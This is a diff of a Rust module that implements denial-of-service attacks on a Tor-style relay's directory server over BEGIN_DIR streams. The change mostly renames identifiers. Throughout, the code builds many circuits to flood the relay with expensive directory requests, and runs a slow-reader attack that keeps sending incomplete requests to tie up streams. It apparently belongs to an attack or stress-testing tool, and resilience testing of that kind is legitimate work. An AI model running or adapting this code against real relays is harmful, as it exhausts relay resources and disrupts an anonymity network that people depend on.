@@ -1,9 +1,9 @@
 //! Attacks on the relay's directory server over BEGIN_DIR streams, which are anonymous and use the relay's ORPort.
 
+use super::attacker::{Attacker, LineId};
 use super::circuits::Circuit;
-use super::field::{Field, LineId};
 use super::requests::{Requests, get};
-use super::{Attack, CircuitAt, Prey};
+use super::{Attack, AttackTarget, CircuitAt};
 use onion::cell::relay::{MAX_DATA_LEN, RelayCommand};
 use onion::cell::{BODY_LEN, Command};
 use onion::{Duration, Instant};
@@ -13,12 +13,12 @@ use std::collections::BTreeMap;
 const LINES: usize = 24;
 
 /// Opens a stream to the directory and sends a request, or a part of one.
-fn ask(circuit: &mut Circuit, field: &mut Field, stream_id: u16, request: &[u8]) {
-    circuit.send(field, RelayCommand::BEGIN_DIR, stream_id, &[]);
+fn ask(circuit: &mut Circuit, attacker: &mut Attacker, stream_id: u16, request: &[u8]) {
+    circuit.send(attacker, RelayCommand::BEGIN_DIR, stream_id, &[]);
     for part in request.chunks(MAX_DATA_LEN) {
-        circuit.send(field, RelayCommand::DATA, stream_id, part);
+        circuit.send(attacker, RelayCommand::DATA, stream_id, part);
     }
-    field.counts().count_request();
+    attacker.counts().count_request();
 }
 
 /// Requests for which the relay must look up, assemble and compress documents.
@@ -38,38 +38,38 @@ impl Work {
     /// A circuit without an answer for this time is abandoned.
     const PATIENCE: Duration = Duration::from_secs(5);
 
-    pub(super) fn new(prey: &Prey) -> Self {
-        let requests = Requests::new(prey.names().clone());
+    pub(super) fn new(target: &AttackTarget) -> Self {
+        let requests = Requests::new(target.names().clone());
         Self { requests, asking: BTreeMap::new() }
     }
 }
 
 impl Attack for Work {
-    fn act(&mut self, field: &mut Field) {
-        let now = field.now();
+    fn act(&mut self, attacker: &mut Attacker) {
+        let now = attacker.now();
         let is_late = |since: Instant| now.saturating_since(since) > Self::PATIENCE;
         for (_, (circuit, ..)) in self.asking.extract_if(.., |_, (.., since)| is_late(*since)) {
-            circuit.destroy(field);
+            circuit.destroy(attacker);
         }
-        for line in field.keep(LINES) {
-            if self.asking.len() + field.building() < Self::AT_ONCE && field.takes(line) {
-                field.begin(line, &[]);
+        for line in attacker.keep(LINES) {
+            if self.asking.len() + attacker.building() < Self::AT_ONCE && attacker.can_send(line) {
+                attacker.begin(line, &[]);
             }
         }
     }
 
-    fn handle_built(&mut self, field: &mut Field, mut circuit: Circuit) {
+    fn handle_built(&mut self, attacker: &mut Attacker, mut circuit: Circuit) {
         for stream_id in 1..=Self::EACH {
-            let request = self.requests.next(&mut field.rng);
-            ask(&mut circuit, field, stream_id, &request);
+            let request = self.requests.next(&mut attacker.rng);
+            ask(&mut circuit, attacker, stream_id, &request);
         }
-        let (at, since) = (circuit.at(), field.now());
+        let (at, since) = (circuit.at(), attacker.now());
         self.asking.insert(at, (circuit, Self::EACH, since));
     }
 
     fn handle_cell(
         &mut self,
-        field: &mut Field,
+        attacker: &mut Attacker,
         at: CircuitAt,
         command: Command,
         body: &[u8; BODY_LEN],
@@ -83,7 +83,7 @@ impl Attack for Work {
         if (command == Command::DESTROY || *unanswered == 0)
             && let Some((circuit, ..)) = self.asking.remove(&at)
         {
-            circuit.destroy(field);
+            circuit.destroy(attacker);
         }
     }
 
@@ -116,24 +116,25 @@ pub(super) fn slow_request(number: u32) -> Vec<u8> {
 }
 
 impl Attack for SlowReaders {
-    fn act(&mut self, field: &mut Field) {
-        for line in field.keep(LINES) {
-            if self.circuits.len() + field.building() < Self::CIRCUITS && field.takes(line) {
-                field.begin(line, &[]);
+    fn act(&mut self, attacker: &mut Attacker) {
+        for line in attacker.keep(LINES) {
+            if self.circuits.len() + attacker.building() < Self::CIRCUITS && attacker.can_send(line)
+            {
+                attacker.begin(line, &[]);
             }
         }
     }
 
-    fn handle_built(&mut self, field: &mut Field, mut circuit: Circuit) {
+    fn handle_built(&mut self, attacker: &mut Attacker, mut circuit: Circuit) {
         for stream_id in 1..=Self::STREAMS {
-            ask(&mut circuit, field, stream_id, &slow_request(stream_id.into()));
+            ask(&mut circuit, attacker, stream_id, &slow_request(stream_id.into()));
         }
         self.circuits.insert(circuit.at(), (circuit, Self::STREAMS));
     }
 
     fn handle_cell(
         &mut self,
-        field: &mut Field,
+        attacker: &mut Attacker,
         at: CircuitAt,
         command: Command,
         body: &[u8; BODY_LEN],
@@ -144,10 +145,10 @@ impl Attack for SlowReaders {
         let Some((circuit, streams)) = self.circuits.get_mut(&at) else { return };
         if command == Command::RELAY
             && let Some((RelayCommand::END, ..)) = circuit.open(body)
-            && field.takes(at.line)
+            && attacker.can_send(at.line)
         {
             *streams = streams.checked_add(1).unwrap_or(1);
-            ask(circuit, field, *streams, &slow_request((*streams).into()));
+            ask(circuit, attacker, *streams, &slow_request((*streams).into()));
         }
     }
 
@@ -161,7 +162,7 @@ mod tests {
     use super::*;
 
     #[test]
-    fn every_other_slow_reader_never_ends_its_request() {
+    fn every_other_slow_request_is_incomplete() {
         let has_ended = |number| slow_request(number).ends_with(b"\r\n\r\n");
         assert_eq!([1, 2, 3, 4].map(has_ended), [true, false, true, false]);
     }
